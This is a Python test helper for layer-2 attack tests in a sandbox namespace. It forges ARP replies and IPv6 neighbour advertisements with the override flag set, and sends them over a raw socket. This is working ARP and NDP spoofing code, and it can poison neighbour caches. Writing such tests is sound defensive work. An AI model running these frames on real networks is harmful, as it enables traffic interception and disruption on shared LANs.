#!/usr/bin/env python3
"""Raw Ethernet frames for the layer-2 attack tests (run inside a sandbox namespace).

usage: frames.py IFACE KIND ARGS...
  arp-reply SRC_MAC SENDER_IP TARGET_IP [VLAN]   ARP reply claiming SENDER_IP is at SRC_MAC
  na SRC_MAC SRC_IP TARGET_IP [VLAN]             unsolicited IPv6 neighbour advertisement (override)
  raw SRC_MAC ETHERTYPE_HEX                      a frame of an arbitrary ethertype to broadcast
Each frame is sent 3 times.
"""
import socket
import struct
import sys


def mac(text):
    return bytes(int(b, 16) for b in text.split(":"))


def eth(dst, src, ethertype, vlan):
    hdr = dst + src
    if vlan is not None:
        hdr += struct.pack("!HH", 0x8100, int(vlan) & 0x0FFF)
    return hdr + struct.pack("!H", ethertype)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def arp_reply(src_mac, sender_ip, target_ip, vlan):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    body += src_mac + socket.inet_aton(sender_ip) + b"\xff" * 6 + socket.inet_aton(target_ip)
    return eth(b"\xff" * 6, src_mac, 0x0806, vlan) + body


def na(src_mac, src_ip, target_ip, vlan):
    src = socket.inet_pton(socket.AF_INET6, src_ip)
    dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    icmp = struct.pack("!BBHI", 136, 0, 0, 0x20000000)  # override flag
    icmp += socket.inet_pton(socket.AF_INET6, target_ip)
    icmp += struct.pack("!BB", 2, 1) + src_mac  # target link-layer address option
    pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
    c = csum(pseudo + icmp)
    icmp = icmp[:2] + struct.pack("!H", c) + icmp[4:]
    ip6 = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src + dst
    return eth(b"\x33\x33\x00\x00\x00\x01", src_mac, 0x86DD, vlan) + ip6 + icmp


def main():
    iface, kind = sys.argv[1], sys.argv[2]
    args = sys.argv[3:]
    if kind == "arp-reply":
        frame = arp_reply(mac(args[0]), args[1], args[2], args[3] if len(args) > 3 else None)
    elif kind == "na":
        frame = na(mac(args[0]), args[1], args[2], args[3] if len(args) > 3 else None)
    elif kind == "raw":
        frame = eth(b"\xff" * 6, mac(args[0]), int(args[1], 16), None) + b"\0" * 46
    else:
        sys.exit("unknown kind " + kind)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    for _ in range(3):
        s.send(frame)


main()
